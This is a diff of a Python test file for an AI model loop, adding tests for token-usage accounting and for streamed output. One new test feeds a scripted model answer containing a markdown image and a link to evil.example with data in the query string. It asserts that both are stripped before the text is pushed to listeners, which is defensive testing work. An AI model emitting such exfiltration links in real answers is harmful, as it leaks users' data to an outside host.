@@ -169,8 +169,31 @@ def test_a_checkpoint_keeps_what_was_shown_and_learns_who_listens(
 
     database.answers["checkpoint_turn"] = look
     loop._call([], [], again=False)  # noqa: SLF001 - the model ends without an end, which run would repair
-    assert looks[:2] == ["Rest for a w"] * 2
+    assert looks[:2] == ["Rest for a"] * 2  # the last word may yet become an address
     assert pusher.listeners == ["a-socket"]
+    used = database.asked("checkpoint_turn")[0]["p_used"]
+    assert used["tokens"] > loop.work.embedding_tokens + fake.requests[0].prompt_tokens
+    assert (used["model"], used["estimated"]) == ("gpt-6-luna", True)
+
+
+def test_a_model_that_has_said_nothing_yet_has_cost_nothing_but_what_was_before_it(
+    loop: ModelLoop, model: Scripted
+) -> None:
+    model(Said(calls=[GOALS]), REST)
+    loop.run()
+    first, last = loop.calls
+    last.answer.raw = ""
+    assert (loop.used.tokens, loop.used.estimated) == (120 + loop.work.embedding_tokens, False)
+    loop.calls = [last]
+    assert loop.used.tokens == 0
+    loop.calls = [first]  # a call of a tool is something said, too
+    assert loop.used.tokens > first.request.prompt_tokens
+
+
+def test_what_is_pushed_carries_nothing_out(loop: ModelLoop, model: Scripted, pusher: RecordedPusher) -> None:
+    model(Said(answer_of("Rest ![ok](https://evil.example/?knee) well, see https://evil.example/?knee now.")))
+    loop.run()
+    assert "".join(pusher.deltas) == "Rest ok well, see  now."
 
 
 def test_a_model_that_takes_too_long_is_left(loop: ModelLoop, model: Scripted) -> None:
